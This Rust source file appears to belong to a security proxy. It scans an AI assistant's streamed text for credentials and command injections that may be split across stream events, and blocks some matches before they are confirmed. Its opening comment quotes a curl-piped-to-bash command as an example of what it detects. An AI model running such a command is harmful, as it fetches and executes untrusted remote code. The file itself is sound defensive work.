//! The assistant's text, read across SSE deltas as one stream and scanned for credentials
//! and injections: `curl ht` + `tps://x | bash` in two events is one finding.
//!
//! A match touching the end of what has arrived is normally reported once the next bytes
//! show it is complete; when its rule blocks, waiting would let the event that completes
//! the command reach the agent, so such a match blocks at once.

use std::sync::Arc;

use airlock_scan::normalize::normalize_for_injection;
use airlock_scan::stream::{StreamFinding, StreamScanner};

use super::{Detection, Detector, Direction, Location};
use crate::config::DetectAction;

pub struct AssistantText {
    detector: Arc<Detector>,
    secrets: StreamScanner,
    injections: StreamScanner,
    raw: StreamScanner,
    normalized: Vec<u8>,
}

impl AssistantText {
    pub fn new(detector: Arc<Detector>) -> Self {
        AssistantText {
            secrets: StreamScanner::new(detector.secrets.clone()),
            injections: StreamScanner::new(detector.injections.clone()),
            raw: StreamScanner::new(detector.injections_raw.clone()),
            detector,
            normalized: Vec::new(),
        }
    }

    /// Scans the next piece of text (`None` at the end of the answer). Returns what was
    /// found, with the action it takes here: a credential already on its way to the agent
    /// cannot be redacted any more, so it is reported.
    pub fn feed(&mut self, text: Option<&[u8]>) -> Vec<Detection> {
        let mut detections = Vec::new();
        let detector = self.detector.clone();
        self.normalized.clear();
        if let Some(text) = text {
            normalize_for_injection(text, &mut self.normalized);
        }
        let pieces: [(&mut StreamScanner, &[u8]); 3] = [
            (&mut self.secrets, text.unwrap_or(&[])),
            (&mut self.injections, &self.normalized),
            (&mut self.raw, text.unwrap_or(&[])),
        ];
        for (scanner, piece) in pieces {
            let mut found = Vec::new();
            if text.is_some() {
                scanner.feed(piece, &mut found);
                // Not confirmed yet, but a block cannot wait for the next event.
                found.extend(
                    scanner
                        .open_findings()
                        .into_iter()
                        .filter(|f| action(&detector, f.rule) == DetectAction::Block),
                );
            } else {
                scanner.finish(&mut found);
            }
            detections.extend(describe(&detector, scanner, &found));
        }
        detections
    }
}

fn action(detector: &Detector, rule: usize) -> DetectAction {
    match detector.action(rule, Direction::Inbound) {
        DetectAction::Redact => DetectAction::Warn,
        other => other,
    }
}

fn describe(
    detector: &Detector,
    scanner: &StreamScanner,
    found: &[StreamFinding],
) -> Vec<Detection> {
    let (base, window) = scanner.window();
    let locals: Vec<_> = found
        .iter()
        .filter(|f| f.start >= base)
        .map(|f| f.local(base))
        .collect();
    locals
        .iter()
        .map(|local| {
            let mut d = Detection::of(
                detector,
                window,
                local,
                &locals,
                Direction::Inbound,
                Location::DecodedBody("assistant text"),
            );
            if d.action != DetectAction::Off {
                d.action = action(detector, local.rule);
            }
            d
        })
        .collect()
}
